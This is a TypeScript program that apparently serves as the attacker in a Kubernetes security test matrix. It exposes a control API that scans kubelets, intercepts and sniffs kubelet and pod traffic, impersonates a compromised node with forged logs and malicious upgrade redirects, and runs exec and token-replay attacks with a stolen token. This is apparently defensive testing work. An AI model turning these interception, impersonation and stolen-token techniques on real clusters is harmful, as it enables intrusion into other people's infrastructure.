// The matrix's attacker, a program: `node --import tsx attacker-host.ts <control address>`, run inside the router
// namespace between the control plane and the nodes. It does what the catalogue's attacker does, on request:
// scans kubelets from the network (`node-network`), then, once the runner has routed the node and pod addresses
// to it, sits on the path (`control-plane-path`): a man in the middle on every kubelet address, the sniffer on
// the pod ports, and a blind relay for what it cannot read (the SSH tunnels), so the apiserver's path keeps
// working and only the attacks themselves decide what it learns. Then, as a compromised node (`/impersonate`),
// it answers on every node address with that node's own cluster-signed certificate. With a stolen token it
// tries a WebSocket exec on each kubelet (`/nodes-proxy-exec`) and a replay at the apiserver (`/token-replay`).
// Prints ATTACKER_HOST_READY and its port.
import { createServer as createHttpServer, type IncomingMessage } from 'node:http';
import { connect, createServer as createTcpServer, type Server, type Socket } from 'node:net';
import {
  channelText,
  exchangeRecord,
  maliciousUpgradeStrategy,
  nodesProxyExec,
  replayToken,
  rogueNodeStrategy,
  scanKubelets,
  startMitm,
  startRedirectTarget,
  startRogueKubelet,
  startSniff,
  type Capture,
  type ExchangeRecord,
  type Mitm,
  type RedirectTarget,
  type RogueKubelet,
  type Sniffer,
} from '@hubspoke/attacker';
import { pino } from 'pino';
import {
  ATTACKER_HOST_READY,
  firstBytes,
  type AttackerReport,
  type ImpersonateRequest,
  type InterceptRequest,
  type MitmView,
  type NodesProxyExecRequest,
  type NodesProxyExecResponse,
  type RogueView,
  type ScanRequest,
  type ScanResponse,
  type TokenReplayRequest,
  type TokenReplayResponse,
} from './attacker-host-protocol.ts';

const controlAddress = process.argv[2] ?? '127.0.0.1';
const logger = pino({ level: process.env.ATTACKER_HOST_LOG_LEVEL ?? 'warn' }, pino.destination(2));
const mitms = new Map<string, Mitm>();
let sniffer: Sniffer | undefined;
const sniffed: ExchangeRecord[] = [];
const relays: Server[] = [];
const relayed: Record<string, number> = {};
const sockets = new Set<Socket>();
const rogues = new Map<string, RogueKubelet>();
let redirectTarget: RedirectTarget | undefined;
// The men in the middle's views, kept when /impersonate closes them.
const mitmViews = new Map<string, MitmView>();

async function intercept(req: InterceptRequest): Promise<void> {
  for (const host of req.nodes) {
    mitms.set(host, await startMitm({ listen: { host, port: req.kubeletPort }, upstream: { host, port: req.kubeletPort, localAddress: req.sourceAddress }, logger }));
  }
  sniffer = await startSniff({
    listeners: [
      { port: req.pod.httpPort },
      { port: req.pod.httpsPort, tls: true, impersonate: () => ({ body: req.forgedBody }) },
    ],
    sourceAddress: req.sourceAddress,
    logger,
  });
  sniffer.onExchange((capture, exchange) => sniffed.push(exchangeRecord(capture, exchange)));
  for (const port of req.relayPorts) relays.push(await relay(port, req.sourceAddress));
}

/** The compromised node takes over every node address: logs get forged text, upgrades a redirect to the target. */
async function impersonate(req: ImpersonateRequest): Promise<void> {
  for (const [host, mitm] of mitms) {
    mitmViews.set(host, mitmView(mitm));
    await mitm.close();
  }
  mitms.clear();
  redirectTarget = await startRedirectTarget({ host: req.redirectHost, port: 0 });
  const forged = rogueNodeStrategy(req.forgedLog);
  const redirect = maliciousUpgradeStrategy({ kind: 'redirect', location: redirectTarget.url });
  for (const host of req.nodes) {
    rogues.set(host, await startRogueKubelet({ listen: { host, port: req.kubeletPort }, tls: req.tls, strategy: (r) => (r.upgrade ? redirect(r) : forged(r)), logger }));
  }
}

function rogueView(rogue: RogueKubelet): RogueView {
  const connections = rogue.connections();
  return {
    connections: connections.length,
    clientCNs: [...new Set(connections.map((c) => c.clientCN).filter((cn): cn is string => !!cn))],
    requests: rogue.requests().map((r) => ({ method: r.method, target: r.target, upgrade: r.upgrade, status: r.status })),
  };
}

/** Pass connections for `port` on to their original destination, unread. */
function relay(port: number, sourceAddress: string): Promise<Server> {
  const server = createTcpServer((client) => {
    relayed[port] = (relayed[port] ?? 0) + 1;
    const upstream = connect({ host: client.localAddress!, port: client.localPort!, localAddress: sourceAddress });
    for (const s of [client, upstream]) {
      sockets.add(s);
      s.once('close', () => sockets.delete(s));
      s.on('error', () => {
        client.destroy();
        upstream.destroy();
      });
    }
    client.pipe(upstream).pipe(client);
  });
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, '0.0.0.0', () => resolve(server));
  });
}

function mitmView(mitm: Mitm): MitmView {
  return {
    captures: mitm.captures().map((c: Capture) => ({
      client: c.client,
      requests: c.exchanges.map((x) => ({
        target: x.request.target ?? '',
        head: x.request.raw,
        ...(x.response ? { status: x.response.status, body: firstBytes(x.response.body) } : {}),
        ...(x.stream ? { stdout: firstBytes(channelText(c, 1, 'to-apiserver')), error: firstBytes(channelText(c, 3, 'to-apiserver')) } : {}),
      })),
    })),
    failures: mitm.failures(),
  };
}

function report(): AttackerReport {
  return {
    mitm: { ...Object.fromEntries(mitmViews), ...Object.fromEntries([...mitms].map(([host, m]) => [host, mitmView(m)])) },
    rogue: Object.fromEntries([...rogues].map(([host, r]) => [host, rogueView(r)])),
    redirectArrivals: (redirectTarget?.arrivals() ?? []).map((a) => ({ remote: a.remote, firstBytes: a.bytes.subarray(0, 32).toString('hex') })),
    sniff: sniffed.map((r) => ({
      ...r,
      request: { raw: r.request.raw, body: firstBytes(r.request.body) },
      ...(r.response ? { response: { ...r.response, body: firstBytes(r.response.body) } } : {}),
    })),
    relayed,
  };
}

async function body<T>(req: IncomingMessage): Promise<T> {
  const chunks: Buffer[] = [];
  for await (const chunk of req) chunks.push(chunk as Buffer);
  return JSON.parse(Buffer.concat(chunks).toString('utf8')) as T;
}

const control = createHttpServer((req, res) => {
  const answer = (status: number, value: unknown): void => {
    res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(value));
  };
  const handle = async (): Promise<void> => {
    if (req.method === 'POST' && req.url === '/scan') {
      const { targets, readOnlyPort } = await body<ScanRequest>(req);
      const response: ScanResponse = { reports: await scanKubelets({ targets, readOnlyPort, timeoutMs: 5_000, attachListenMs: 300, logger }) };
      return answer(200, response);
    }
    if (req.method === 'POST' && req.url === '/intercept') {
      await intercept(await body<InterceptRequest>(req));
      return answer(200, { ok: true });
    }
    if (req.method === 'POST' && req.url === '/nodes-proxy-exec') {
      const { token, targets } = await body<NodesProxyExecRequest>(req);
      const results = await Promise.all(
        targets.map((t) => nodesProxyExec({ route: { via: 'kubelet', kubelet: t.kubelet }, namespace: t.namespace, pod: t.pod, container: t.container, command: t.command, credentials: { token }, timeoutMs: 5_000 })),
      );
      const response: NodesProxyExecResponse = { results };
      return answer(200, response);
    }
    if (req.method === 'POST' && req.url === '/impersonate') {
      await impersonate(await body<ImpersonateRequest>(req));
      return answer(200, { ok: true });
    }
    if (req.method === 'POST' && req.url === '/token-replay') {
      const { server, token } = await body<TokenReplayRequest>(req);
      const response: TokenReplayResponse = { result: await replayToken({ server, token, timeoutMs: 5_000 }) };
      return answer(200, response);
    }
    if (req.method === 'GET' && req.url === '/report') return answer(200, report());
    answer(404, { error: `no ${req.method} ${req.url}` });
  };
  handle().catch((err: Error) => answer(500, { error: err.message }));
});

async function shutdown(): Promise<never> {
  for (const s of sockets) s.destroy();
  await Promise.allSettled([
    ...[...mitms.values()].map((m) => m.close()),
    ...[...rogues.values()].map((r) => r.close()),
    redirectTarget?.close(),
    sniffer?.close(),
    ...relays.map((r) => new Promise((done) => r.close(done))),
  ]);
  process.exit(0);
}
process.on('SIGTERM', () => void shutdown());
process.on('SIGINT', () => void shutdown());

control.listen(0, controlAddress, () => {
  const address = control.address();
  process.stdout.write(`${ATTACKER_HOST_READY} ${typeof address === 'object' && address ? address.port : 0}\n`);
});
